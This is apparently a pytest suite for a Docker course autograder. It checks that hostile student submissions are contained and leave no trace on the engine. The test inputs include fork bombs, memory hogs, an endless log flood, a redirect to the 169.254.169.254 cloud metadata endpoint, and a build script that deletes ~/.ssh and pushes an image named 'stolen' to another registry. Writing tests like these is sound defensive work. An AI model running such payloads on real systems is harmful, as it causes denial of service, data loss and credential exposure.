"""Hostile submissions: each ends within its bound with a clear `fail` or `error` (or exit 2 with
one line), leaves nothing labelled on the engine, changes no file of the submission or of a
decoy home directory, and leaves the next grading's verdicts as they were.

Graded through the command line, as a classroom would (tests/test_bad_input.py has the broken,
rather than hostile, inputs; test_workspace.py the symlinks, FIFOs and ignore files; tests of
nbgrader's edited cells are in test_nbgrader_course.py).
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import time
from pathlib import Path

import pytest

from graders import build_cgroup, engine, limits
from graders.workspace import REPO_ROOT
from test_bad_input import _tree_digest, cli

pytestmark = pytest.mark.docker
IN_CI = os.environ.get("CI", "").lower() in ("1", "true", "yes")
SERVE = 'EXPOSE 8000\nCMD ["gunicorn", "--bind", "0.0.0.0:8000", "shortlinks.wsgi:app"]\n'
APP = "FROM python:3.13-slim\nWORKDIR /app\nCOPY pyproject.toml ./\nCOPY src/ ./src/\nRUN pip install --no-cache-dir .\n"


@pytest.fixture
def submission(tmp_path, docker_client, base_images):
    """make(dockerfile, **files) -> a workspace holding the sample app and these files."""

    def make(dockerfile: str | bytes, **files: str) -> Path:
        workspace = tmp_path / "workspace"
        shutil.copytree(REPO_ROOT / "exercises", workspace, ignore=shutil.ignore_patterns("__pycache__"))
        data = dockerfile.encode() if isinstance(dockerfile, str) else dockerfile
        (workspace / "Dockerfile").write_bytes(data)
        for name, text in files.items():
            (workspace / name.replace("__", "/")).write_text(text, encoding="utf-8")
        return workspace

    return make


@pytest.fixture
def decoy_home(tmp_path):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("decoy key\n")
    (home / "notes.txt").write_text("decoy\n")
    return home


def _own(home: Path) -> dict[str, str]:
    """The home's files, but for the docker CLI's own state (~/.docker: buildx records its node
    there), which the grader's `docker buildx build` writes as any docker command would."""
    return {rel: digest for rel, digest in _tree_digest(home).items() if not rel.startswith(".docker")}


def grade(workspace: Path, stage: int, home: Path | None = None, **env: str) -> tuple[object, dict | None, float]:
    """(the CompletedProcess, the JSON report or None, seconds); asserts the tree is unchanged and
    nothing of the grading is left on the engine."""
    before, home_before = _tree_digest(workspace), _own(home) if home else None
    client = engine.connect()
    # This run's session fixtures keep labelled resources for the whole session (conftest's
    # python-lookalike base): what this grading leaves is what is new after it.
    labelled_before = _labelled(client)
    report = workspace.parent / "report.json"
    started = time.monotonic()
    done = cli("check", "--stage", str(stage), "--json", str(report), str(workspace),
               env={**({"HOME": str(home)} if home else {}), **env})
    seconds = time.monotonic() - started
    assert _tree_digest(workspace) == before, "the submission's files changed"
    if home:
        assert _own(home) == home_before, "the decoy home changed"
    left = {kind: sorted(names - labelled_before.get(kind, set())) for kind, names in _labelled(client).items()}
    assert not any(left.values()), f"the grading left these on the engine: {left}"
    return done, (json.loads(report.read_text()) if report.exists() else None), seconds


def _labelled(client) -> dict[str, set[str]]:
    return {kind: set(names) for kind, names in engine.leftovers(client, run=os.environ[engine.RUN_ENV]).items()}


def status(report: dict, practice: str) -> dict:
    return next(r for r in report["results"] if r["id"] == practice)


def _bounded_builds() -> None:
    client = engine.connect()
    with build_cgroup.build_cgroup(client.info().get("CgroupDriver")) as (parent, why):
        if parent is None:
            if IN_CI:
                pytest.fail(f"CI runs as root on a cgroupfs engine, so builds must be bounded: {why}")
            pytest.skip(why)


def test_fork_bomb_in_a_run_step_is_stopped_at_the_build_pids_limit(submission):
    """A RUN step that forks without end stops at the grader's pids limit for builds."""
    _bounded_builds()
    bomb = APP + 'RUN python3 -c "import os, time; [os.fork() == 0 and (time.sleep(30), os._exit(0)) for _ in range(20000)]"\n' + SERVE
    done, report, seconds = grade(submission(bomb), 1)
    assert done.returncode == 1, done.stderr
    result = status(report, "image-builds")
    assert result["status"] == "fail"
    assert "Resource temporarily unavailable" in json.dumps(result) or "BlockingIOError" in json.dumps(result), result
    assert seconds < limits.value("build_seconds")


def test_memory_hog_in_a_run_step_is_killed_at_the_build_memory_limit(submission):
    _bounded_builds()
    hog = APP + 'RUN python3 -c "b = bytearray(3 * 1024 ** 3); print(len(b))"\n' + SERVE
    done, report, _seconds = grade(submission(hog), 1)
    assert done.returncode == 1, done.stderr
    result = status(report, "image-builds")
    assert result["status"] == "fail" and "137" in json.dumps(result), result


def test_fork_bomb_in_the_running_app_is_contained(submission):
    """The app forks without end at start-up: the container's pids limit holds, the grading ends
    with serves-on-run failing, and the engine is still fine for the next grading."""
    bomb = APP + 'EXPOSE 8000\nCMD ["python3", "-c", "import os, time\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        time.sleep(0.01)"]\n'
    done, report, seconds = grade(submission(bomb), 1)
    assert done.returncode == 1, done.stderr
    assert status(report, "serves-on-run")["status"] == "fail"
    assert seconds < 120


def test_a_container_flooding_stdout_keeps_only_the_log_limit(submission):
    flood = APP + 'EXPOSE 8000\nCMD ["python3", "-c", "import sys\\nwhile True: sys.stdout.write(\'x\' * 65536)"]\n'
    done, report, seconds = grade(submission(flood), 1)
    assert done.returncode == 1
    assert status(report, "serves-on-run")["status"] == "fail"
    assert seconds < 120


def test_a_build_that_never_ends_is_cancelled_at_the_build_limit(submission):
    done, report, seconds = grade(submission(APP + "RUN sleep infinity\n" + SERVE), 1, DOCKERCOURSE_BUILD_TIMEOUT="15")
    assert done.returncode == 1
    assert "did not finish within 15 s" in status(report, "image-builds")["message"]
    assert seconds < 90


def test_the_whole_grading_has_a_deadline(submission):
    done, report, seconds = grade(submission(APP + "RUN sleep infinity\n" + SERVE), 1, DOCKERCOURSE_GRADING_TIMEOUT="10")
    assert done.returncode == 2 and report is None
    assert "did not finish within 10 s" in done.stderr and done.stderr.count("\n") == 1
    assert seconds < 60


@pytest.mark.parametrize("content", [
    pytest.param(bytes(range(256)) * 40, id="binary-garbage"),
    pytest.param(b"FROM python:3.13-slim\x00\nRUN echo \x00 hi\n", id="nul-bytes"),
    pytest.param("FROM python:3.13-slim\nLABEL note=\"caf\xe9\"\n".encode("latin-1"), id="not-utf-8"),
])
def test_a_dockerfile_that_is_not_text_fails_image_builds(submission, content):
    done, report, _seconds = grade(submission(content), 1)
    assert done.returncode in (1, 2), done.stderr
    if done.returncode == 1:
        assert status(report, "image-builds")["status"] in ("fail", "pass")
        assert report["results"]  # every practice got a verdict, none crashed
        assert not any("please report" in r["message"] for r in report["results"]), report
    else:
        assert done.stderr.count("\n") == 1 and "please report" not in done.stderr


def test_a_10_mb_dockerfile_is_refused_with_one_line(submission):
    huge = "FROM python:3.13-slim\n" + ("# padding " + "x" * 1000 + "\n") * 10_000
    done, report, seconds = grade(submission(huge), 1)
    assert done.returncode == 2 and report is None
    assert "the grader reads at most" in done.stderr and done.stderr.count("\n") == 1
    assert seconds < 30


def test_a_huge_build_context_is_refused_before_it_is_copied(submission):
    workspace = submission(APP + SERVE)
    with open(workspace / "big.bin", "wb") as handle:
        handle.truncate(64 * 10**6)           # sparse: 64 MB of context, no disk spent
    done, report, seconds = grade(workspace, 1, DOCKERCOURSE_CONTEXT_BYTES=str(32 * 10**6))
    assert done.returncode == 2 and report is None
    assert "DOCKERCOURSE_CONTEXT_BYTES" in done.stderr and ".dockerignore" in done.stderr
    assert seconds < 30


def test_a_dockerignore_that_hides_the_dockerfile_changes_nothing(submission):
    done, report, _seconds = grade(submission(APP + SERVE, **{".dockerignore": "Dockerfile\n.dockerignore\n*\n!src\n!pyproject.toml\n"}), 1)
    assert status(report, "image-builds")["status"] == "pass", report
    assert status(report, "serves-on-run")["status"] == "pass", report


def test_an_image_pretagged_with_the_graders_names_is_not_graded(submission, docker_client):
    """A good image tagged in advance under names a grader might use does not stand in for the
    submission's own build, which fails."""
    good = docker_client.images.get("python:3.13-slim")
    for name in ("dockercourse-grade:latest", "shortlinks:latest"):
        good.tag(name)
    try:
        done, report, _seconds = grade(submission(APP + "RUN exit 3\n" + SERVE), 1)
        assert status(report, "image-builds")["status"] == "fail"
    finally:
        for name in ("dockercourse-grade:latest", "shortlinks:latest"):
            docker_client.images.remove(name, noprune=True)


def test_a_healthz_that_redirects_elsewhere_is_not_followed(submission):
    redirect = APP + (
        'EXPOSE 8000\nCMD ["python3", "-c", "import http.server as h\\n'
        'class R(h.BaseHTTPRequestHandler):\\n'
        '    def do_GET(self):\\n'
        '        self.send_response(302); self.send_header(\'Location\', \'http://169.254.169.254/latest/meta-data/\'); self.end_headers()\\n'
        'h.HTTPServer((\'0.0.0.0\', 8000), R).serve_forever()"]\n')
    done, report, seconds = grade(submission(redirect), 1)
    assert done.returncode == 1
    assert "302" in status(report, "serves-on-run")["message"], status(report, "serves-on-run")
    assert seconds < 90


def test_a_healthz_that_answers_slowly_forever_is_given_up_on(submission):
    slow = APP + (
        'EXPOSE 8000\nCMD ["python3", "-c", "import http.server as h, time\\n'
        'class R(h.BaseHTTPRequestHandler):\\n'
        '    def do_GET(self):\\n'
        '        time.sleep(3600)\\n'
        'h.ThreadingHTTPServer((\'0.0.0.0\', 8000), R).serve_forever()"]\n')
    done, report, seconds = grade(submission(slow), 1)
    assert done.returncode == 1
    assert status(report, "serves-on-run")["status"] == "fail"
    assert seconds < 120


def test_a_build_script_cannot_reach_the_home_it_was_given_or_hang(submission, decoy_home):
    """A stage-3 build.sh that deletes the home directory's keys, pushes to another registry and
    then never ends: its HOME is a throwaway one, its pushes fail, it is stopped at the limit."""
    script = ('#!/usr/bin/env bash\nset -euo pipefail\nrm -rf "$HOME/.ssh" "$HOME/notes.txt"\n'
              'docker push registry.example.invalid/stolen:latest || true\nsleep infinity\n')
    workspace = submission((REPO_ROOT / "solutions" / "stage2" / "Dockerfile").read_text(), **{"build.sh": script})
    (workspace / ".dockerignore").write_text((REPO_ROOT / "solutions" / "stage2" / ".dockerignore").read_text())
    done, report, seconds = grade(workspace, 3, home=decoy_home, DOCKERCOURSE_SCRIPT_TIMEOUT="5")
    assert done.returncode == 1, done.stderr
    assert status(report, "build-script-strict")["status"] == "fail"
    assert "was stopped after" in json.dumps(report), report
    assert seconds < 300


def test_the_next_grading_gives_the_same_verdicts(graded):
    """After the hostile ones above, a solution still grades as it always does."""
    report = graded(REPO_ROOT / "solutions" / "stage2", 2)
    assert report.exit_code == 0 and all(r.status == "pass" for r in report.results), [
        (r.id, r.status, r.message) for r in report.results if r.status != "pass"]


def test_lint_cannot_be_silenced_by_the_submission(submission):
    """An ignore pragma and a .hadolint.yaml in the context, both meant to silence DL3020 (ADD
    for local files): copy-not-add still fails at the ADD line."""
    silenced = ("FROM python:3.13-slim\nWORKDIR /app\n# hadolint ignore=DL3020\nADD pyproject.toml ./\nCOPY src/ ./src/\n"
                "RUN pip install --no-cache-dir .\n" + SERVE)
    done, report, _seconds = grade(submission(silenced, **{".hadolint.yaml": "ignored:\n  - DL3020\n"}), 1)
    result = status(report, "copy-not-add")
    assert result["status"] == "fail" and result["line"] == 4, result


def test_a_device_node_in_the_context_is_left_out_and_said(submission):
    """A character device (here /dev/null's numbers) in the context is never read or copied."""
    if os.geteuid() != 0:
        if IN_CI:
            pytest.fail("CI runs as root: a device node can be made")
        pytest.skip("making a device node needs root")
    workspace = submission(APP + SERVE)
    os.mknod(workspace / "null-device", 0o600 | stat.S_IFCHR, os.makedev(1, 3))
    done, report, _seconds = grade(workspace, 1)
    assert status(report, "image-builds")["status"] == "pass", report
    assert any("null-device" in note for note in report["notes"]), report["notes"]
